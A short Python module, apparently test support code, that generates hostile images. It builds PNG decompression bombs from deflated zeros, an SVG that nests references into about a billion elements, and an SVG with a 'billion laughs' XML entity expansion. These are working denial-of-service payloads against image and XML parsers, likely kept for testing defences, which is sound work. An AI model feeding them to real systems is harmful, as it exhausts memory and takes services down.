"""Pictures that are small as files and large as anything else."""

from __future__ import annotations

import struct
import zlib
from functools import cache

SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">{}</svg>'


def chunk(kind: bytes, content: bytes) -> bytes:
    """Make a chunk of a PNG file."""
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def png(width: int, height: int, *before: bytes, rows: int | None = None) -> bytes:
    """Make a PNG file of one bit a pixel, with some chunks before its pixels, of which some rows are there."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
    pixels = zlib.compress(bytes((width + 7) // 8 + 1) * (height if rows is None else rows), 9)
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(before) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


@cache
def zeros(megabytes: int) -> bytes:
    """Give zeros, deflated: a thousandth of their size."""
    return zlib.compress(bytes(megabytes << 20), 9)


def use_bomb(levels: int = 9) -> str:
    """Draw a picture of ten to the power of `levels` elements."""
    groups = "".join(f'<g id="a{n}">' + f'<use href="#a{n - 1}"/>' * 10 + "</g>" for n in range(1, levels))
    return SVG.format(f'<g id="a0"><path d="M0 0h9v9z"/></g>{groups}<use href="#a{levels - 1}"/>')


def entities(levels: int = 9) -> str:
    """Write a picture whose text is a billion laughs."""
    defined = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, levels))
    doctype = f'<!DOCTYPE svg [<!ENTITY l0 "ha">{defined}]>'
    return doctype + SVG.format(f"<text>&l{levels - 1};</text>")
